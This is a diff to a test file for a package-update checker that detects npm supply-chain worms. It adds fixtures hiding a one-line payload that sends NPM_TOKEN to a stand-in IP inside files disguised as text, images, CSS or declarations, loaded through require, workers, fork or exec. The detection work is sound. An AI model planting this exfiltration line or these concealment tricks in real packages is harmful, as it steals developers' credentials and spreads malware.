@@ -1,5 +1,5 @@
-import { expect, test } from "vitest";
-import { judgeUpdate } from "../../test/compare-packages.ts";
+import { describe, expect, test } from "vitest";
+import { judgeUpdate, type PackageChange } from "../../test/compare-packages.ts";
 
 /**
  * What the worms of 2025 and 2026 added to packages whose provenance was valid, put together from reports: a bundle that
@@ -82,4 +82,94 @@ test("finds everything that a worm adds to a package", async () => {
   for (const credential of ["NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", ".npmrc", "169.254.169.254"]) {
     expect(credentials?.message).toContain(credential);
   }
+});
+
+describe("a worm in a file that is not named as code", () => {
+  const payload = 'require("https").get("https://203.0.113.7/" + process.env.NPM_TOKEN);\n';
+  const index = "export const answer = 42;\n";
+  const hidden = (path: string, loader: string, content = payload): PackageChange => ({
+    files: { "dist/index.js": `${index}${loader}\n`, [path]: content },
+  });
+  const requires = 'import { createRequire } from "node:module"; const load = createRequire(import.meta.url);';
+
+  async function judge(change: PackageChange): Promise<{ rules: string[]; misnamed: string[] }> {
+    const { findings } = await judgeUpdate(change);
+    const errors = findings.filter(({ severity }) => severity === "error");
+    return {
+      rules: errors.map(({ rule, where, message }) => {
+        const capability = /\(([a-z-]+)\), as the last release did not/.exec(message)?.[1];
+        return capability === undefined ? `${rule} ${where}` : `${capability} ${where}`;
+      }),
+      misnamed: errors.flatMap(({ rule, message }) => (rule === "code-misnamed" ? [message] : [])),
+    };
+  }
+
+  test.each<[string, string, PackageChange]>([
+    ["required text", "dist/x.txt", hidden("dist/x.txt", `${requires} load("./x.txt");`)],
+    ["a required file without an ending", "dist/x", hidden("dist/x", `${requires} load("./x");`)],
+    ["a required picture that is none", "dist/x.png", hidden("dist/x.png", `${requires} load("./x.png");`)],
+    ["required declarations", "dist/x.d.ts", hidden("dist/x.d.ts", `${requires} load("./x.d.ts");`)],
+    [
+      "text that is required by a name in parts",
+      "dist/x.txt",
+      hidden("dist/x.txt", `${requires} const n = "./x"; load(n + ".txt");`),
+    ],
+    [
+      "text that is required by a path in parts",
+      "x/y.txt",
+      hidden("x/y.txt", `${requires} load(join(import.meta.dirname, "..", "x", "y.txt"));`),
+    ],
+    ["an imported file without an ending", "dist/x", hidden("dist/x", 'import "./x";')],
+    ["a thread", "dist/x.md", hidden("dist/x.md", 'new Worker(new URL("./x.md", import.meta.url));')],
+    ["a forked process", "dist/x.dat", hidden("dist/x.dat", 'child.fork("dist/x.dat");')],
+    ["a started process", "dist/x.css", hidden("dist/x.css", 'run.exec("node dist/x.css");')],
+  ])("is found: %s", async (_title, path, change) => {
+    const { rules, misnamed } = await judge(change);
+    for (const capability of ["network", "credentials"]) expect(rules).toContain(`${capability} ${path}:1`);
+    expect(misnamed).toEqual([expect.stringContaining(`${path} is loaded as code (`)]);
+    expect(misnamed[0]).toContain(" at dist/index.js:2)");
+  });
+
+  test("is found where a program of the manifest is named like data", async () => {
+    const { rules, misnamed } = await judge({
+      manifest: { bin: { sound: "./dist/cli.json" } },
+      files: { "dist/cli.json": `#!/usr/bin/env node\n${payload}` },
+    });
+    expect(rules).toContain("network dist/cli.json:2");
+    expect(misnamed).toEqual(["dist/cli.json is loaded as code (bin of package.json), which its name does not say."]);
+  });
+
+  test("is found where nothing that can be read loads it", async () => {
+    const { rules } = await judge({ files: { "dist/x.txt": payload, "dist/y": payload } });
+    expect(rules).toContain("network dist/x.txt:1");
+  });
+
+  test("is found through another file that is not named as code", async () => {
+    const { misnamed } = await judge({
+      files: {
+        "dist/index.js": `${index}${requires} load("./a.txt");\n`,
+        "dist/a.txt": 'require("./b.txt");\n',
+        "dist/b.txt": payload,
+      },
+    });
+    expect(misnamed).toEqual([
+      expect.stringContaining("dist/a.txt is loaded as code (require at dist/index.js:2)"),
+      expect.stringContaining("dist/b.txt is loaded as code (require at dist/a.txt:1)"),
+    ]);
+  });
+
+  test.each<[string, PackageChange]>([
+    ["required JSON", hidden("dist/x.json", `${requires} load("./x.json");`, '{ "fetch": "(1)" }')],
+    ["an imported stylesheet", hidden("dist/x.css", 'import "./x.css";', ".a { color: rgb(1, 2, 3); }\n")],
+    ["a text that a started program reads", hidden("dist/x.txt", 'run.exec("cat dist/x.txt");', "Dear (reader),\n")],
+    ["prose that is valid JavaScript", { files: { "dist/x.txt": "answer\n", "dist/y.csv": "1,2\n3,4\n" } }],
+    [
+      "a program without an ending",
+      { manifest: { bin: "./dist/license-run" }, files: { "dist/license-run": `#!/usr/bin/env node\n` } },
+    ],
+    ["exported declarations", { files: { "dist/index.d.ts": 'export * from "./more.js";\n', "dist/more.js": "" } }],
+    ["an exported stylesheet", { manifest: { style: "./dist/x.css" }, files: { "dist/x.css": "a { b: c(d); }\n" } }],
+  ])("is not seen in %s", async (_title, change) => {
+    expect((await judge(change)).rules.filter((rule) => !/^(?:publint|types|process)/.test(rule))).toEqual([]);
+  });
 });
